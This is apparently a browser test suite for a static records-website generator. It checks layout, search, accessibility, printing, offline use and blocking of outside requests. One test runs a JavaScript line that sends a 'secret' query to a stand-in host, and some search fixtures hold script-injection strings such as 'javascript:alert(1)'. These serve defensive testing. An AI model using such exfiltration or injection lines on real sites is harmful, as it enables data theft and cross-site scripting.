"""The built site as a reader has it: in Chromium, wide and narrow, light and dark, typed into and printed."""

from __future__ import annotations

import io
import re
import shutil
import threading
import unicodedata
from collections.abc import Iterator
from contextlib import contextmanager
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from importlib.resources import files
from pathlib import Path

import pytest
from browser import EXECUTABLE, Browser, browser
from pypdf import PdfReader
from small_site import (
    LABELS,
    LEVELS,
    NAMES,
    PROJECT,
    build_site,
    make_project,
    people,
    write_page,
    write_tree,
)
from trees import copy_of

from lingtouyan.commands.build import build
from lingtouyan.commands.serve import Preview
from lingtouyan.templates.components import table
from lingtouyan.templates.grids import Grid, grid_data
from lingtouyan.website.website import for_disk, write_script

pytestmark = [
    pytest.mark.slow,
    pytest.mark.browser,
    pytest.mark.skipif(EXECUTABLE is None, reason="Chromium is not installed"),
]
# The site stands below a path, as it does on a git host.
BELOW = "goose"
QUERY = "document.querySelector('[data-md-component=search-query]')"
HITS = "[...document.querySelectorAll('.record-hits a')]"


class _Quiet(SimpleHTTPRequestHandler):
    """A host that shows the site's own page for what is not there."""

    def log_message(self, *_: object) -> None:
        pass

    def send_error(self, code: int, *_: object) -> None:  # type: ignore[override]
        page = (Path(self.directory) / BELOW / "404.html").read_bytes()
        self.send_response(code)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(page)


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A draft of the internal edition, whose settings do not say where it will stand."""
    folder = tmp_path_factory.mktemp("served")
    settings = make_project(folder / "root") / "mkdocs.yml"
    settings.write_text(settings.read_text("utf-8").replace("site_url:", "# site_url:"), "utf-8")
    write_tree(folder / "work" / "tree")
    _write_list(folder / "work" / "tree")
    job = build_site(folder, edition="internal", draft=True)
    (folder / "host").mkdir()
    return job.out.rename(folder / "host" / BELOW)


def _write_list(tree: Path) -> None:
    """A long list as a page declares one: choices, bounds, a shortlist."""
    grid = Grid(
        "people", ("name", "level", "town", "votes"), 1,
        facets=("level", "town"), ranges=("votes",), key="id", orders={"level": LEVELS},
    )  # fmt: skip
    data = grid_data(
        grid, people(), grid.columns, LABELS, {"name": lambda row: f"../people/{row['id']}/"}, {}
    )
    write_script(tree / "lists/shortlist/all.js", "gridData", data)
    first = table(people()[:20], grid.columns, labels=LABELS, grid="lists/shortlist/all.js")
    write_page(tree, "shortlist.md", "名单", first)
    write_page(tree, "wide.md", "宽表", table(people()[:9], ("id", *grid.columns), labels=LABELS))
    note = '<p class="grid-note none">这里列出前 20 条。</p>'
    write_page(tree, "far.md", "名单在后", "\n\n".join([*["[说明](rules.md)"] * 100, first]))
    write_page(tree, "below.md", "名单在后", "\n\n".join([*["说明"] * 100, f"{first}\n{note}"]))


@contextmanager
def _serving(site: Path) -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(_Quiet, directory=str(site.parent)))
    thread = threading.Thread(target=server.serve_forever, args=(0.05,))
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}/{BELOW}/"
    server.shutdown()
    server.server_close()
    thread.join()


@pytest.fixture(scope="module")
def served(site: Path) -> Iterator[str]:
    """The site under a path of a host."""
    with _serving(site) as address:
        yield address


@pytest.fixture(scope="module")
def sample(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The internal site of the sample city under a path of a host."""
    city = tmp_path_factory.mktemp("sample") / "city"
    for name in ("schemas", "site", "records"):
        shutil.copytree(PROJECT / name, city / name)
    for name in ("datapackage.yaml", "mkdocs.yml"):
        shutil.copy(PROJECT / name, city / name)
    assert not build(city, edition="internal", dossiers=False).refused
    with _serving((city / "build/internal/site").rename(city / BELOW)) as address:
        yield address


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    with browser() as page:
        yield page


PAGES = ["", "roster/", "rules/", "towns/", "people/P0001/", "people/P0002/"]


@pytest.mark.parametrize("path", PAGES)
def test_nothing_is_fetched_from_elsewhere_and_nothing_breaks(
    path: str, served: str, chromium: Browser
) -> None:
    chromium.size(1280, 900)
    chromium.open(served + path)
    outside = [url for url in chromium.requests() if not url.startswith((served, "data:"))]
    assert outside == []
    assert chromium.complaints() == []


@pytest.mark.parametrize("path", PAGES)
@pytest.mark.parametrize("width", [360, 390, 768, 1280])
def test_no_page_is_wider_than_the_screen(path: str, width: int, served: str, chromium: Browser) -> None:
    chromium.size(width, 800)
    chromium.open(served + path)
    assert chromium.evaluate("document.documentElement.scrollWidth") <= width


def test_names_show_as_typed(served: str, chromium: Browser) -> None:
    _grid(chromium, served + "roster/")
    assert chromium.evaluate(_column(0)) == [row["name"] for row in people()][:50]
    for number, name in enumerate(NAMES):
        chromium.open(f"{served}people/P{number:04}/")
        assert chromium.evaluate("document.querySelector('h1').textContent") == name
        assert chromium.evaluate("document.title") == f"{name} - 领头雁"


def _search(chromium: Browser, url: str, words: str) -> None:
    chromium.size(1280, 900)
    chromium.open(url)
    chromium.evaluate(f"{QUERY}.focus()")
    chromium.type(words)


@pytest.mark.parametrize(
    "words, first",
    [
        ("李示范", "李示范"),
        ("示范", "李示范"),
        ("lsf", "李示范"),
        ("LiShiFan", "李示范"),
        ("li shi fan", "李示范"),
        ("shan", "单 & \"雄\" 'x'"),
        ("sx", "单 & \"雄\" 'x'"),
        ("990101100004", "𠮷𬭎䶮"),
        ("𬭎", "𠮷𬭎䶮"),
        ("阿依古丽买买提", "阿依古丽·买买提"),
        ("<b>", "<b>|{{x}}"),
        ("javascript:", "[a](javascript:alert(1))"),
        ("示范 青山", "李示范"),
        ("青山 李", "李示范"),
        ("吉", "𠮷𬭎䶮"),
    ],
)
def test_records_are_found_exactly(words: str, first: str, served: str, chromium: Browser) -> None:
    _search(chromium, served + "rules/", words)
    chromium.until(f"{HITS}.length")
    assert chromium.evaluate(f"{HITS}[0].querySelector('strong').textContent") == first
    assert chromium.complaints() == []


@pytest.mark.parametrize("place", ["nothing", "print/0123456789abcdef/", "a/b/c/d.html"])
def test_the_page_for_wrong_addresses_works_at_any_depth(place: str, served: str, chromium: Browser) -> None:
    _search(chromium, served + place, "示范")
    # Not that of a hit, which comes first when it is there.
    assert chromium.evaluate("document.querySelector('.md-content h1').textContent") == "没有这个页面"
    # It tells what it means where the code on a print led here.
    assert "本站没有这份印本" in chromium.evaluate("document.querySelector('.md-content article').innerText")
    # Its own style sheet was found.
    assert chromium.evaluate("getComputedStyle(document.querySelector('.site-facts')).display") == "flex"
    assert chromium.evaluate("document.querySelector('article a[href]:not([href^=\"#\"])').href") == served
    links = "[...document.querySelectorAll('.md-nav__link[href], .md-logo, link[rel=stylesheet]')]"
    assert chromium.evaluate(f"{links}.filter(a => !a.href.startsWith('{served}')).length") == 0
    chromium.until(f"{HITS}.length")
    assert chromium.evaluate(f"{HITS}[0].href") == served + "people/P0000/"


@pytest.mark.parametrize("width", [1440, 390])
def test_a_site_works_from_a_disk(width: int, site: Path, tmp_path: Path, chromium: Browser) -> None:
    folder = shutil.copytree(site, tmp_path / "U 盘" / "100%#1 站点")
    here = folder.as_uri() + "/"
    chromium.size(width, 844)
    # One that was made for a host says what to do; one that was made for a disk works.
    told = "document.querySelector('article').innerText.includes('build --offline')"
    chromium.open(here + "people/P0001/index.html")
    assert chromium.evaluate(told)
    for_disk(folder)
    chromium.open(here + "index.html")
    assert not chromium.evaluate(told)
    chromium.open(here + "people/P0001/index.html")
    for page in ("people/index.html", "roster/index.html", "people/P0000/index.html"):
        links = f"[...document.querySelectorAll('a')].find(a => a.href === '{here}{page}')"
        chromium.open(chromium.evaluate(f"{links}.href"))
        assert chromium.evaluate("document.querySelector('h1') !== null")
        assert chromium.evaluate("getComputedStyle(document.querySelector('.site-facts')).display") == "flex"
        assert chromium.evaluate("document.querySelector('.site-facts').innerText.includes('2026-11-20')")
    # Both searches, and the theme's for a word of a page.
    chromium.evaluate(f"{QUERY}.focus()")
    chromium.type("示范")
    chromium.until(f"{HITS}.length")
    assert chromium.evaluate(f"{HITS}[0].href") == here + "people/P0000/index.html"
    chromium.evaluate(f"{QUERY}.value = ''")
    chromium.type("报送")
    found = "document.querySelector('.md-search-result__list a')"
    chromium.until(f"{found} !== null")
    assert chromium.evaluate(f"{found}.href").startswith(here + "rules/index.html")
    assert [url for url in chromium.requests() if not url.startswith((here, "data:"))] == []
    assert chromium.complaints() == []


def test_every_record_is_found_by_its_whole_number_first(served: str, chromium: Browser) -> None:
    # Numbers that count on stand in the index as their first one; each leads to its own page.
    for number in (0, 9, 79):
        _search(chromium, served + "rules/", f"99010110{number:04}")
        chromium.until(f"{HITS}.length === 1")
        assert chromium.evaluate(f"{HITS}[0].href") == f"{served}people/P{number:04}/"
    # Signs that search folds away are no words.
    _search(chromium, served + "rules/", "·")
    chromium.evaluate(f"{QUERY}.value = ''")
    chromium.type("示范")
    chromium.until(f"{HITS}.length")


def test_a_name_that_does_not_exist_is_not_found(served: str, chromium: Browser) -> None:
    _search(chromium, served, "查无此人")
    chromium.until("document.querySelector('.md-search-result__meta').textContent.includes('没有找到')")
    assert chromium.evaluate(f"{HITS}.length") == 0


def test_words_of_the_pages_are_found_in_the_same_box(served: str, chromium: Browser) -> None:
    _search(chromium, served, "报送")
    chromium.until("document.querySelector('.md-search-result__list a') !== null")
    assert "办法" in chromium.evaluate("document.querySelector('.md-search-result__list').textContent")


def test_what_is_found_is_not_said_to_be_missing_and_can_be_listed_whole(
    served: str, chromium: Browser
) -> None:
    _search(chromium, served, "人1")
    chromium.until(f"{HITS}.length === 5")
    assert (
        chromium.evaluate("getComputedStyle(document.querySelector('.md-search-result__meta')).display")
        == "none"
    )
    chromium.evaluate("document.querySelector('.record-hits__more').click()")
    assert chromium.evaluate(f"{HITS}.length") == 10


def test_the_index_is_fetched_when_somebody_searches(served: str, chromium: Browser) -> None:
    chromium.size(1280, 900)
    chromium.open(served + "rules/")
    # The theme's own index comes with every page: the theme is as released.
    own = [url for url in chromium.requests() if "/search/" in url and not url.endswith("search_index.json")]
    assert own == []


def test_the_keyboard_leads_to_a_record(served: str, chromium: Browser) -> None:
    _search(chromium, served + "people/P0009/", "lsf")
    chromium.until(f"{HITS}.length")
    chromium.press("Enter")
    chromium.until("location.pathname.endsWith('/people/P0000/') && document.readyState === 'complete'")
    _search(chromium, served, "人1")
    chromium.until(f"{HITS}.length > 2")
    chromium.press("ArrowDown")
    chromium.press("ArrowDown")
    assert chromium.evaluate("document.activeElement.closest('.record-hits') !== null")
    assert chromium.evaluate(f"document.activeElement === {HITS}[1]")


def test_a_phone_can_search(served: str, chromium: Browser) -> None:
    chromium.size(390, 844)
    chromium.open(served + "people/P0001/")
    chromium.evaluate("document.querySelector('label[for=__search]').click()")
    chromium.evaluate(f"{QUERY}.focus()")
    chromium.type("示范")
    chromium.until(f"{HITS}.length")
    # The results slide in from the side.
    place = f"{HITS}[0].getBoundingClientRect()"
    chromium.until(f"{place}.left >= 0 && {place}.right <= 390")
    assert chromium.evaluate(f"{place}.height") >= 40


def _grid(chromium: Browser, url: str, width: int = 1280, *, dark: bool = False) -> None:
    chromium.size(width, 900, dark=dark)
    chromium.open(url)
    chromium.until("document.querySelector('[data-ready]') !== null")


COUNT = "document.querySelector('.grid-count').textContent"
FACETS = "[...document.querySelectorAll('.grid-facet')]"


def _column(number: int) -> str:
    rows = "[...document.querySelectorAll('.tabulator-row')]"
    return f"{rows}.map(r => r.querySelectorAll('.tabulator-cell')[{number}].textContent)"


def test_a_table_can_be_filtered_narrowed_and_sorted(served: str, chromium: Browser) -> None:
    _grid(chromium, served + "roster/")
    assert chromium.evaluate(COUNT) == "共 80 条"
    chromium.evaluate("document.querySelector('.grid-query').focus()")
    chromium.type("绿水 高中")
    chromium.until(f"{COUNT} === '已选 20 条，共 80 条'")
    # Counts of a facet follow the other choices, not its own.
    values = "[...document.querySelectorAll('.grid-facet:nth-of-type(1) label')].map(l => l.textContent)"
    assert chromium.evaluate(values) == ["初中0", "高中20", "大专0", "本科0"]
    _grid(chromium, served + "roster/")
    for level in (2, 3):
        chromium.evaluate(f"{FACETS}[0].querySelectorAll('input')[{level}].click()")
    chromium.until(f"{COUNT} === '已选 40 条，共 80 条'")
    assert set(chromium.evaluate(_column(1))) == {"大专", "本科"}
    assert chromium.evaluate(values) == ["初中20", "高中20", "大专20", "本科20"]
    chromium.evaluate("document.querySelectorAll('.tabulator-col')[3].click()")
    votes = chromium.evaluate(f"{_column(3)}.map(Number)")
    assert votes == sorted(votes)
    assert len(votes) == 40
    # A link is the view.
    address = chromium.evaluate("location.href")
    _grid(chromium, address)
    assert chromium.evaluate(f"{_column(3)}.map(Number)") == votes
    assert chromium.evaluate("document.querySelectorAll('.tabulator-col')[3].ariaSort") == "ascending"
    assert chromium.complaints() == []


def test_levels_sort_in_their_own_order_by_the_keyboard(served: str, chromium: Browser) -> None:
    _grid(chromium, served + "roster/")
    chromium.evaluate("document.querySelectorAll('.tabulator-col')[1].focus()")
    chromium.press("Enter")
    levels = chromium.evaluate(_column(1))
    assert list(dict.fromkeys(levels)) == ["初中", "高中", "大专"]
    assert len(levels) == 50


def _tab_to(chromium: Browser, selector: str, *, back: bool = False, most: int = 80) -> None:
    """Go on by the tab key until something has the focus; whatever has it on the way shows so."""
    for _ in range(most):
        chromium.press("Tab", shift=back)
        if chromium.evaluate(f"document.activeElement.matches({selector!r})"):
            break
    style = "getComputedStyle(document.activeElement)"
    assert chromium.evaluate(f"document.activeElement.matches({selector!r})"), selector
    assert chromium.evaluate(f"{style}.outlineStyle !== 'none' && parseFloat({style}.outlineWidth) >= 1"), (
        selector
    )


def test_a_list_far_down_is_two_stops_away(served: str, chromium: Browser) -> None:
    chromium.size(1280, 900)
    chromium.open(served + "far/")
    _tab_to(chromium, ".md-skip--list", most=2)
    chromium.press("Enter")
    chromium.until("document.activeElement.matches('.grid-query')")


def test_the_keyboard_alone_chooses_sorts_compares_and_exports(served: str, chromium: Browser) -> None:
    _grid(chromium, served + "shortlist/")
    _tab_to(chromium, ".md-skip", most=1)
    _tab_to(chromium, ".md-skip--list", most=1)
    assert chromium.evaluate("document.activeElement.textContent") == "跳到名单的筛选"
    chromium.press("Enter")
    chromium.until("document.activeElement.matches('.grid-query')")
    chromium.type("绿水")
    chromium.until(f"{COUNT}.startsWith('已选 40 条')")
    _tab_to(chromium, ".grid-menu summary")
    chromium.press("Enter")
    _tab_to(chromium, ".grid-list label:nth-child(3) input")
    chromium.press(" ")
    chromium.press("Escape")
    assert chromium.evaluate("document.activeElement.textContent") == "列"
    _tab_to(chromium, ".grid-facet label:nth-child(2) input")
    chromium.press(" ")
    chromium.until(f"{COUNT}.startsWith('已选 20 条')")
    _tab_to(chromium, ".grid-facet--range input")
    chromium.type("33")
    chromium.until(f"{COUNT}.startsWith('已选 11 条')")
    _tab_to(chromium, ".tabulator-col[tabulator-field=c3]")
    chromium.press("Enter")
    chromium.until("location.search.includes('all.sort=votes')")
    for row in (1, 2):
        _tab_to(chromium, f".tabulator-row:nth-child({row}) .grid-pick")
        chromium.press(" ")
    _tab_to(chromium, ".grid-shortlist button", back=True)
    for _ in range(3):
        if chromium.evaluate("document.activeElement.textContent") != "并排对比":
            chromium.press("Tab", shift=True)
    chromium.press("Enter")
    assert chromium.evaluate("document.activeElement.textContent") == "并排对比"
    assert chromium.evaluate("document.querySelectorAll('.grid-compare thead th').length") == 3
    # The view, its columns and the shortlist stand in the address.
    address, shown = chromium.evaluate("location.href"), chromium.evaluate(_column(0))
    # Without the place on the page: a browser that goes nowhere else loads nothing.
    _grid(chromium, address.partition("#")[0])
    assert chromium.evaluate(_column(0)) == shown
    assert chromium.evaluate("document.querySelectorAll('.grid-compare thead th').length") == 3
    assert chromium.evaluate("document.querySelector('.tabulator-col[tabulator-field=c2]').offsetWidth") == 0
    chromium.evaluate("HTMLAnchorElement.prototype.click = function () { window.saved = this.download }")
    _tab_to(chromium, ".grid-menu:nth-of-type(2) summary")
    chromium.press("Enter")
    _tab_to(chromium, ".grid-list button")
    chromium.press("Enter")
    assert chromium.until("window.saved").endswith("20261120.xlsx")
    # A choice taken back leaves the keyboard where it was.
    _tab_to(chromium, ".grid-chip")
    chips = "document.querySelectorAll('.grid-chips button').length"
    before = chromium.evaluate(chips)
    chromium.press("Enter")
    chromium.until(f"{chips} < {before}")
    assert chromium.evaluate("document.activeElement.matches('.grid-chip, .grid-query')")
    assert chromium.complaints() == []


@pytest.mark.parametrize(
    "path, dark",
    [
        ("", False),
        ("shortlist/", True),
        ("shortlist/?all.group=town", False),
        ("rules/", False),
        ("people/P0001/", True),
    ],
)
def test_no_page_shuts_out_who_cannot_see_it(path: str, dark: bool, served: str, chromium: Browser) -> None:
    chromium.size(390 if dark else 1280, 900, dark=dark)
    chromium.open(served + path)
    if path.startswith("shortlist/"):
        chromium.until("document.querySelector('[data-ready]') !== null")
    assert _shut_out(chromium) == []


def _shut_out(chromium: Browser) -> list[str]:
    axe = files(pytest.importorskip("axe_core_python")) / "axe.min.js"
    chromium.evaluate(axe.read_text("utf-8") + ";0")
    found: list[str] = chromium.evaluate(
        "axe.run().then(({violations}) => violations.filter(v => ['serious', 'critical'].includes(v.impact))"
        ".map(v => `${v.id} ${v.nodes[0].html}`))"
    )
    return found


# Every kind of page that the sample city has, those of records by one that has much on it.
KINDS = (
    "", "home/leader/", "home/reviewer/", "roster/", "townships/", "townships/qingquan/", "villages/V0001/", "people/",
    "people/P0001/", "filings/", "elections/", "first-secretaries/", "training/years/", "compare/", "questions/older/",
    "charts/", "term-map/", "todo/", "findings/", "warnings/", "changes/", "policies/adjustment/", "rules/R01/",
    "dictionary/people/",
)  # fmt: skip


# What a finger has to hit and is under 24 px high; links within a sentence are as high as its line.
SMALL = """[...document.querySelectorAll(
    '.md-content :is(td > a, th > a, button, select, summary, label:has(input), .headerlink, .source-links a)')]
    .filter((e) => e.checkVisibility() && e.getBoundingClientRect().height < 23.9).map((e) => e.outerHTML)"""


@pytest.mark.exhaustive
@pytest.mark.parametrize("width, dark", [(1440, False), (1440, True), (390, False), (390, True)])
def test_every_kind_of_page_of_the_sample_is_open_to_all_stands_still_and_keeps_to_itself(
    width: int, dark: bool, sample: str, chromium: Browser
) -> None:
    chromium.size(width, 844, dark=dark)
    _watch_shifts(chromium)
    for path in KINDS:
        chromium.open(sample + path)
        # Lists further down wait until somebody comes near.
        chromium.until(
            "[...document.querySelectorAll('.data[data-grid]')]"
            ".every((e) => 'ready' in e.dataset || e.getBoundingClientRect().top > innerHeight)"
        )
        assert (path, _shut_out(chromium)) == (path, [])
        assert (path, chromium.evaluate("shifted") < 0.1) == (path, True)
        assert (path, chromium.evaluate("document.documentElement.scrollWidth")) == (path, width)
        assert (path, chromium.evaluate(SMALL) if width < 400 else []) == (path, [])
        assert (path, [u for u in chromium.requests() if not u.startswith((sample, "data:"))]) == (path, [])
        assert (path, chromium.complaints()) == (path, [])


@pytest.mark.exhaustive
@pytest.mark.parametrize("path", ["warnings/", "todo/"])
def test_what_is_doubtful_or_due_is_marked_where_its_link_lands(
    path: str, sample: str, chromium: Browser
) -> None:
    chromium.size(1440, 844)
    chromium.open(sample + path)
    ways = chromium.evaluate("[...document.querySelectorAll('.md-content a')].map((a) => a.href)")
    items = sorted({w for w in ways if re.search(r"#\w+-\w", w)})
    assert items
    for way in items:
        # Another place of the same page is not loaded.
        chromium.open("about:blank")
        chromium.open(way)
        assert (way, chromium.evaluate("document.querySelector('tr:target') !== null")) == (way, True)


def _watch_shifts(chromium: Browser) -> None:
    chromium.call(
        "Page.addScriptToEvaluateOnNewDocument",
        source="window.shifted = 0; new PerformanceObserver((list) => { for (const e of list.getEntries()) "
        "shifted += e.value; }).observe({ type: 'layout-shift', buffered: true });",
    )


@pytest.mark.parametrize("width", [1440, 390])
@pytest.mark.parametrize("path", ["roster/", "shortlist/"])
def test_nothing_moves_when_a_grid_takes_the_place_of_its_table(
    path: str, width: int, served: str, chromium: Browser
) -> None:
    _watch_shifts(chromium)
    _grid(chromium, served + path, width)
    assert chromium.evaluate("new Promise(r => setTimeout(() => r(shifted), 300))") < 0.05


@pytest.mark.parametrize("width", [1280, 390])
def test_a_wide_table_is_read_record_by_record_on_a_telephone_without_script(
    width: int, served: str, chromium: Browser
) -> None:
    chromium.size(width, 844)
    chromium.call("Emulation.setScriptExecutionDisabled", value=True)
    try:
        chromium.call("Page.navigate", url=served + "wide/")
        chromium.until("document.readyState === 'complete' && document.querySelector('td') !== null")
        label = "getComputedStyle(document.querySelector('td:nth-child(3)'), '::before').content"
        assert ("学历" in chromium.evaluate(label)) == (width == 390)
        assert chromium.evaluate("document.querySelector('.data-scroll').scrollWidth") <= width
    finally:
        chromium.call("Emulation.setScriptExecutionDisabled", value=False)


def test_a_record_lists_its_sections_beside_it_and_links_each(served: str, chromium: Browser) -> None:
    _watch_shifts(chromium)
    chromium.size(1440, 900)
    chromium.open(served + "people/P0003/")
    listed = "[...document.querySelectorAll('.md-sidebar--secondary a')].map(a => [a.textContent, a.hash])"
    assert chromium.evaluate(listed) == [["任职", "#posts"], ["大事记", "#events"]]
    assert chromium.evaluate("document.querySelector('h2 .headerlink').hash") == "#posts"
    # Its place was kept: nothing moves when it comes.
    assert chromium.evaluate("new Promise(r => setTimeout(() => r(shifted), 300))") < 0.02
    # Within one page the browser would load nothing.
    chromium.open(served)
    chromium.open(served + "people/P0003/#events")
    ground = "getComputedStyle(document.getElementById('{}')).backgroundColor"
    assert chromium.evaluate(ground.format("events")) != chromium.evaluate(ground.format("posts"))


def test_facts_stand_at_the_foot(served: str, chromium: Browser) -> None:
    chromium.size(1280, 900)
    for path in ("", "people/P0003/"):
        chromium.open(served + path)
        foot = chromium.evaluate("document.querySelector('.site-facts').innerText")
        assert "数据截至 2026-11-20" in foot
        assert "0123456789ab" in foot
        assert "内部版（草稿）" in foot


def test_dark_follows_the_system_and_stays_readable(served: str, chromium: Browser) -> None:
    colour = "getComputedStyle(document.querySelector('{}')).{}.match(/[\\d.]+/g).slice(0, 3).map(Number)"
    for dark in (False, True):
        chromium.size(1280, 900, dark=dark)
        chromium.open(served)
        ground, ink = (
            sum(chromium.evaluate(colour.format(*place)))
            for place in (("body", "backgroundColor"), (".chart figcaption", "color"))
        )
        assert (ground < 150) == dark
        assert abs(ground - ink) > 400


@pytest.mark.parametrize("path", ["rules/", "people/P0001/"])
def test_every_printed_sheet_is_marked(path: str, served: str, chromium: Browser) -> None:
    chromium.size(1280, 900)
    chromium.open(served + path)
    sheets = PdfReader(io.BytesIO(chromium.pdf())).pages
    assert [round(float(side) * 25.4 / 72) for side in sheets[0].mediabox[2:]] == [210, 297]
    for sheet in sheets:
        text = sheet.extract_text()
        assert "草稿" in text
        assert "内部资料" in text
        assert "队伍" not in text
        assert "http" not in text


def test_a_long_table_prints_with_its_heading_on_every_sheet(served: str, chromium: Browser) -> None:
    _grid(chromium, served + "roster/")
    sheets = [sheet.extract_text() for sheet in PdfReader(io.BytesIO(chromium.pdf())).pages]
    assert len(sheets) > 1
    assert all("学历" in text and "草稿" in text for text in sheets)
    assert "筛选" not in "".join(sheets)
    # All rows, not the page on the screen, below what they are.
    assert "79 本科" in sheets[-1]
    assert "2026-11-20" in sheets[0]


def test_a_view_in_groups_prints_their_rows_under_their_heads(served: str, chromium: Browser) -> None:
    _grid(chromium, served + "shortlist/?all.group=town&all.level=高中")
    printed = "".join(sheet.extract_text() for sheet in PdfReader(io.BytesIO(chromium.pdf())).pages)
    printed = unicodedata.normalize("NFKC", printed).replace(" ", "")
    assert "绿水乡20条" in printed
    assert "人9" in printed
    assert "object" not in printed
    # On the screen they are as they were.
    chromium.until("document.querySelectorAll('.tabulator-row:not(.tabulator-group)').length === 0")


def test_a_list_prints_whole_where_nobody_scrolled_to_it(served: str, chromium: Browser) -> None:
    _grid(chromium, served + "below/")
    printed = "".join(sheet.extract_text() for sheet in PdfReader(io.BytesIO(chromium.pdf())).pages)
    # A browser may write 人 as the radical that looks the same.
    printed = unicodedata.normalize("NFKC", printed).replace(" ", "")
    assert "这里列出前" not in printed
    assert all(f"人{n}" in printed for n in range(6, len(people())))


def test_the_site_opens_without_scripts_or_network_rights(served: str, chromium: Browser) -> None:
    chromium.size(1280, 900)
    chromium.call("Emulation.setScriptExecutionDisabled", value=True)
    try:
        chromium.call("Page.navigate", url=served + "people/P0000/")
        chromium.until(
            "document.readyState === 'complete' && document.querySelector('h1')?.textContent === '李示范'"
        )
        assert "学历" in chromium.evaluate("document.querySelector('article').innerText")
    finally:
        chromium.call("Emulation.setScriptExecutionDisabled", value=False)


def test_a_hostile_page_sends_nothing_out(tmp_path: Path, chromium: Browser, served: str) -> None:
    chromium.size(1280, 900)
    chromium.open(served)
    before = len(chromium.complaints())
    chromium.evaluate(
        "new Image().src = 'http://127.0.0.2:9/?secret'; fetch('http://127.0.0.2:9/').catch(() => 0)"
    )
    assert len(chromium.complaints()) >= before + 2


def test_the_preview_reloads_a_page_and_shows_what_is_wrong(tmp_path: Path, chromium: Browser) -> None:
    tree = copy_of("parliament", tmp_path / "tree")
    file = tree / "records/members-north.csv"
    original = file.read_text("utf-8")

    def save(text: str) -> None:
        # As editors do: a file is never there in part.
        (tmp_path / "saved").write_text(text, "utf-8")
        (tmp_path / "saved").replace(file)

    with Preview(tree, "internal", None, 0) as preview:
        thread = threading.Thread(target=preview.run, args=(lambda _: None,))
        thread.start()
        try:
            chromium.size(1280, 900)
            chromium.open(preview.url + "members/M001/")
            title = "(document.querySelector('h1')?.textContent ?? '')"
            chromium.until(f"{title}.includes('安娜·贝尔')", 60)
            save(original.replace("安娜·贝尔", "安娜·雷"))
            chromium.until(f"{title}.includes('安娜·雷')", 60)
            save(original.replace("2020-01-01", "2020-13-01"))
            chromium.until("document.body?.innerText.includes('members-north.csv')", 60)
            # What is wrong stands over the page, be it as it is now or as it was before.
            assert "安娜·" in chromium.evaluate(title)
            save(original.replace("安娜·贝尔", "安娜·白"))
            chromium.until(f"{title}.includes('安娜·白')", 60)
            chromium.until("!document.body.innerText.includes('members-north.csv')", 60)
            assert chromium.complaints() == []
        finally:
            preview.close()
            thread.join(60)
